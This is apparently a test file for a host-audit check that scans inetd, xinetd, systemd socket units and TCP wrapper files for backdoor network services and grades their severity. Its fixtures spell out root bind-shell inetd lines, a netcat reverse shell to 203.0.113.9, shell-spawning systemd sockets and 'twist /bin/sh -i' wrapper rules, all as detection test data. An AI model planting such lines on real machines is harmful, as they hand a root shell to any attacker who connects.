import { describe, expect, test } from 'vitest';
import { networkServices } from '../../source/checks/network-services.ts';
import { cleanMachines, debianServer } from '../support/distributions.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const base: Machine = {
	...debianServer,
	'/usr/sbin/in.ftpd': { mode: 0o755 },
	'/usr/sbin/tcpd': { mode: 0o755 },
	'/usr/sbin/sshd': { mode: 0o755 },
	'/usr/bin/nc': { mode: 0o755 },
	'/usr/lib/systemd/systemd-journald': { mode: 0o755 },
	'/var/lib/dpkg/info/net.list':
		'/usr/sbin/in.ftpd\n/usr/sbin/tcpd\n/usr/sbin/sshd\n/usr/bin/nc\n/usr/lib/systemd/systemd-journald\n/usr/lib/systemd/system/ssh.socket\n/usr/lib/systemd/system/ssh@.service\n/usr/lib/systemd/system/systemd-journald.socket\n/usr/lib/systemd/system/systemd-journald.service\n/etc/xinetd.d/daytime\n',
	'/usr/lib/systemd/system/ssh.socket': '[Socket]\nListenStream=22\nAccept=yes\n',
	'/usr/lib/systemd/system/ssh@.service': '[Service]\nExecStart=-/usr/sbin/sshd -i $SSHD_OPTS\nStandardInput=socket\n',
	'/usr/lib/systemd/system/systemd-journald.socket': '[Socket]\nListenStream=/run/systemd/journal/stdout\n',
	'/usr/lib/systemd/system/systemd-journald.service': '[Service]\nExecStart=/usr/lib/systemd/systemd-journald\n',
	'/etc/hosts.allow': '# /etc/hosts.allow\n',
	'/etc/hosts.deny': '# ALL: PARANOID\n',
};
const ask = (machine: Machine) => told(run(networkServices, memoryHost({ ...base, ...machine })).findings);

test.each(cleanMachines)('%s serves nothing odd', (_name, machine) => {
	expect(told(run(networkServices, memoryHost(machine)).findings)).toEqual([]);
});

test('a server`s own sockets, and inetd that is off', () => {
	expect(ask({ '/etc/inetd.conf': '#telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd\n', '/etc/xinetd.d/daytime': 'service daytime\n{\n disable = yes\n type = INTERNAL\n}\n' })).toEqual([]);
	expect(run(networkServices, memoryHost(base)).coverage.counts.entries).toBe(2);
});

describe('inetd', () => {
	test.each<[string, Machine, readonly string[]]>([
		['31337 stream tcp nowait root /bin/sh sh -i', {}, ['critical']],
		['ingreslock stream tcp nowait root /bin/bash bash', {}, ['critical']],
		['x stream tcp nowait root /usr/sbin/tcpd /bin/sh -i', {}, ['critical']],
		['x stream tcp nowait root /usr/bin/nc nc -e /bin/sh 203.0.113.9 1', {}, ['critical']],
		['x stream tcp nowait root /usr/bin/env env /bin/bash -i', { '/usr/bin/env': { mode: 0o755 } }, ['critical']],
		['x stream tcp nowait root /tmp/.d d', { '/tmp/.d': { mode: 0o755 } }, ['high']],
		['x stream tcp nowait root /usr/sbin/odd odd', { '/usr/sbin/odd': { mode: 0o755 } }, ['high']],
		['x stream tcp nowait root /usr/local/sbin/odd odd', { '/usr/local/sbin/odd': { mode: 0o755 } }, ['medium']],
		['x stream tcp nowait nobody /usr/local/sbin/odd odd', { '/usr/local/sbin/odd': { mode: 0o755 } }, ['low']],
		['ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd -l', {}, ['low']],
		['shell stream tcp nowait root /usr/sbin/sshd rshd', {}, ['medium']],
		['chargen dgram udp wait root internal', {}, ['low']],
		['time stream tcp nowait root internal', {}, []],
	])('%s', (line, machine, expected) => {
		expect(ask({ '/etc/inetd.conf': `${line}\n`, ...machine })).toEqual(expected.map(severity => `${severity} /etc/inetd.conf`));
	});

	test('the sentence and its facts', () => {
		const { findings } = run(networkServices, memoryHost({ ...base, '/etc/inetd.conf': '\n31337 stream tcp nowait root /bin/sh sh -i\n' }));
		expect(findings[0]).toMatchObject({ summary: 'service 31337 of inetd gives whoever connects a shell, as root (line 2)', facts: { line: 2, service: '31337', user: 'root', command: '/bin/sh -i' } });
	});

	test('a file anyone may write', () => {
		expect(ask({ '/etc/inetd.conf': { content: '', mode: 0o666 } })).toEqual(['high /etc/inetd.conf']);
	});
});

describe('xinetd', () => {
	test.each<[string, readonly string[]]>([
		['service x\n{\n server = /bin/sh\n server_args = -i\n}\n', ['critical']],
		['service x\n{\n disable = yes\n server = /bin/sh\n server_args = -i\n}\n', ['low']],
		['service x\n{\n flags = NAMEINARGS\n server = /usr/sbin/tcpd\n server_args = /bin/sh -i\n}\n', ['critical']],
		['service telnet\n{\n server = /usr/sbin/in.ftpd\n}\n', ['low']],
		['service x\n{\n redirect = 203.0.113.9 22\n port = 2222\n type = UNLISTED\n}\n', ['medium']],
	])('%s', (content, expected) => {
		expect(ask({ '/etc/xinetd.conf': 'includedir /etc/xinetd.d\n', '/etc/xinetd.d/x': content })).toEqual(expected.map(severity => `${severity} /etc/xinetd.d/x`));
	});
});

describe('sockets of systemd', () => {
	test.each<[string, string, readonly string[]]>([
		['a shell', '/bin/bash -i', ['critical /etc/systemd/system/x.socket']],
		['a shell, wrapped', "-/bin/sh -c 'exec /bin/bash'", ['critical /etc/systemd/system/x.socket']],
		['a program of no package', '/usr/bin/odd', ['high /etc/systemd/system/x.socket']],
		['a hidden program', '/usr/lib/.x/d', ['high /etc/systemd/system/x.socket']],
		['an administrator`s own', '/usr/local/bin/own', ['low /etc/systemd/system/x.socket']],
		['a packaged program', '/usr/sbin/sshd -i', []],
	])('%s', (_name, command, expected) => {
		const machine: Machine = { '/usr/bin/odd': { mode: 0o755 }, '/usr/lib/.x/d': { mode: 0o755 }, '/usr/local/bin/own': { mode: 0o755 } };
		expect(ask({ ...machine, '/etc/systemd/system/x.socket': '[Socket]\nListenStream=4444\nAccept=yes\n', '/etc/systemd/system/x@.service': `[Service]\nExecStart=${command}\nStandardInput=socket\n` })).toEqual(expected);
	});
});

test('TCP wrappers that run commands', () => {
	expect(ask({ '/etc/hosts.allow': 'sshd: 203.0.113.9: spawn (/tmp/x &): allow\nALL: 10.0.0.0/8\n', '/tmp/x': { mode: 0o755 } })).toEqual(['high /etc/hosts.allow']);
	expect(ask({ '/etc/hosts.deny': 'ALL: ALL: twist /bin/sh -i\n' })).toEqual(['critical /etc/hosts.deny']);
	expect(ask({ '/etc/hosts.deny': 'ALL: ALL: spawn (/usr/bin/logger "%d from %h") &\n', '/usr/bin/logger': { mode: 0o755 }, '/var/lib/dpkg/info/l.list': '/usr/bin/logger\n' })).toEqual([]);
});
